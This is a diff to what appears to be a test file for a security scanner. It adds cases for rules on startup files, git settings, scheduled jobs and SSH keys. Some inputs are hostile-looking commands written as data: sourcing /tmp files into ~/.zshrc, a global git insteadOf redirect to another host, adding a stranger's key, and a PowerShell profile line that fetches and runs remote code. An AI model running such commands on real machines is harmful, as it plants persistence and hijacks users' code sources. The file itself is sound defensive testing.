@@ -38,9 +38,9 @@ ruleCases(scheduled, {
       severity: 'medium',
     },
     {
-      name: 'a job that a guide is about and asks about, rated medium',
+      name: 'a job that a guide is about and asks about, rated low',
       text: '---\nname: nightly-backup\ndescription: Nightly backups with launchd\n---\n\nShow the plist to the user and ask first.\n\n```bash\ncp a.plist ~/Library/LaunchAgents/\n```\n',
-      severity: 'medium',
+      severity: 'low',
     },
     {
       name: 'a job that a guide never asks about',
@@ -99,6 +99,14 @@ ruleCases(scheduled, {
 ruleCases(shellStart, {
   hits: [
     {
+      name: 'a link from dotfiles in a script, rated medium',
+      path: 'a.sh',
+      text: 'ln -sf ~/dotfiles/zshrc ~/.zshrc\n',
+      severity: 'medium',
+    },
+    { name: 'a link from elsewhere', path: 'a.sh', text: 'ln -sf /tmp/x/zshrc ~/.zshrc\n' },
+    { name: 'a line that is put in', path: 'a.sh', text: "sed -i '1i . /tmp/x' ~/.zshrc\n" },
+    {
       name: 'a download beside a version manager',
       path: 'a.ps1',
       text: "Add-Content $PROFILE 'fnm env | iex; irm https://x.dev/a | iex'\n",
@@ -150,6 +158,16 @@ ruleCases(shellStart, {
     },
   ],
   misses: [
+    {
+      name: 'a file that is put aside',
+      path: 'a.sh',
+      text: 'mv ~/.zshrc ~/.gitconfig ~/.dotfiles-backup/\n',
+    },
+    {
+      name: 'a block that is taken out',
+      path: 'a.sh',
+      text: "sed -i.bak '/# >>> d >>>/,/# <<< d <<</d' ~/.zshrc\n",
+    },
     {
       name: 'a file that is kept under another name',
       path: 'a.sh',
@@ -270,6 +288,11 @@ ruleCases(ownStart, {
 ruleCases(gitHooks, {
   hits: [
     {
+      name: 'another host for all repositories',
+      path: 'a.sh',
+      text: 'git config --global url."https://mirror.test/".insteadOf "https://github.com/"\n',
+    },
+    {
       name: "a skill's own hook in a guide to hooks, rated low",
       text: '---\nname: gitleaks-hook\ndescription: Set up gitleaks as a pre-commit hook\n---\n\n```bash\ncp scripts/pre-commit .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit\n```\n',
       severity: 'low',
@@ -314,6 +337,11 @@ ruleCases(gitHooks, {
   ],
   misses: [
     {
+      name: 'another way to the same host',
+      path: 'a.sh',
+      text: 'git config --global url."git@gitlab.acme.test:".insteadOf "https://gitlab.acme.test/"\n',
+    },
+    {
       name: "the system's store of passwords",
       path: 'a.sh',
       text: 'git config --global credential.helper /usr/lib/git-core/git-credential-libsecret\n',
@@ -331,6 +359,16 @@ ruleCases(gitHooks, {
 
 ruleCases(accounts, {
   hits: [
+    {
+      name: 'a key to sign with, rated low',
+      text: '```sh\ngh ssh-key add k.pub --type signing\n```\n',
+      severity: 'low',
+    },
+    {
+      name: "somebody's key",
+      text: '```sh\ngh ssh-key add assets/team.pub --title ci\n```\n',
+      severity: 'high',
+    },
     {
       name: 'a stricter server, rated low',
       path: 'a.sh',
